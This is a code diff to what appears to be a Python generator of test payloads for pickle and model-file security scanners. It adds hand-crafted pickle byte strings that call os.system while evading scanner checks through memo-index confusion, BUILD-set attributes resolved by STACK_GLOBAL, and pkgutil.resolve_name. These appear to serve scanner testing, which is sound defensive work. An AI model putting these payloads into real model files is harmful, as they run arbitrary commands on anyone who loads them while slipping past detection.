@@ -96,7 +96,21 @@ def handwritten() -> dict[str, tuple[bytes, str]]:
     code = marshal.dumps(compile(CODE, "<payload>", "exec"))
     marshal_fn = (b"\x80\x02ctypes\nFunctionType\ncmarshal\nloads\n" + _arg(code)
                   + b"\x85R}\x86R)R.")
+    # picklescan#14: BINPUT and MEMOIZE mixed, so a scanner that numbers MEMOIZE from 0 sees
+    # torch._utils._rebuild_tensor_v2 where the unpickler finds os.system
+    memo_confusion = (b"\x80\x04" + _short("os") + b"q\x00" + _short("system") + b"q\x01"
+                      + _short("torch._utils") + b"\x94" + _short("_rebuild_tensor_v2") + b"\x94"
+                      + b"0000" + b"h\x00h\x01\x93" + _short(CMD) + b"\x85R.")
+    # modelscan#85: BUILD sets numpy.prod.a = "os" and numpy.prod.b = "system", then
+    # STACK_GLOBAL imports numpy.prod.a / numpy.prod.b as module and name
+    build_setattr = (b"\x80\x05cnumpy\nprod\nN(Va\nVos\nd\x86bN(Vb\nVsystem\nd\x86b0"
+                     b"cnumpy\nprod.a\np0\ncnumpy\nprod.b\np1\n00g0\ng1\n\x93V" + CMD.encode()
+                     + b"\n\x85R.")
     out = {
+        "memo-confusion": (memo_confusion, "BINPUT and MEMOIZE mixed (picklescan#14)"),
+        "build-setattr-stack-global": (build_setattr,
+                                       "BUILD sets numpy.prod attributes to 'os'/'system', "
+                                       "then STACK_GLOBAL (modelscan#85)"),
         "getattr-chain": (getattr_chain, "getattr(__import__('os'), 'system')(cmd)"),
         "stack-global-memo": (memo_names, "STACK_GLOBAL with os/system taken from the memo"),
         "stack-global-computed": (computed, "STACK_GLOBAL whose module is str('os') at load"),
@@ -133,6 +147,8 @@ def handwritten() -> dict[str, tuple[bytes, str]]:
                               "ensurepip._run_pip"),
         "importlib-import-module": ("importlib", "import_module", ("antigravity",),
                                     "importlib.import_module (import side effects)"),
+        "pkgutil-resolve-name": ("pkgutil", "resolve_name", ("os:system",),
+                                 "pkgutil.resolve_name('os:system') (GHSA-vvpj-8cmc-gx39)"),
         "timeit": ("timeit", "timeit", (CODE,), "timeit.timeit(stmt=code)"),
         "cprofile-run": ("cProfile", "run", (CODE,), "cProfile.run(code)"),
         "profile-run": ("profile", "run", (CODE,), "profile.run(code)"),
